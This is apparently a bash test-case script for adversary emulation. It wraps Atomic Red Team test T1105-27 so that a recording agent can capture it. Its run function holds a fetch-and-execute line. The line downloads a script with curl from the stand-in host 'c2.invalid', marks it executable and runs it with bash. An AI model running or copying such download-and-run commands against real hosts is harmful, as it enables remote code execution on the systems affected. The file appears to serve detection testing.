#!/usr/bin/env bash
# Atomic Red Team T1105-27: Linux Download File and Run
# atomic GUID bdc373c5-e9cf-4563-8a7b-a9ba720a90f3; technique T1105
# record.sh runs `case.sh run DIR` under the agent (recorded), then `case.sh cleanup DIR`.
W="${2:?usage: $0 run|cleanup DIR}"
cd "$W" || exit 1
run() {
    cd "$W"
    curl -sO --connect-timeout 3 -m 5 http://c2.invalid/atomics/T1105/src/atomic.sh; chmod +x atomic.sh 2>/dev/null; bash atomic.sh 2>/dev/null
}
cleanup() {
    :
}
"$1"
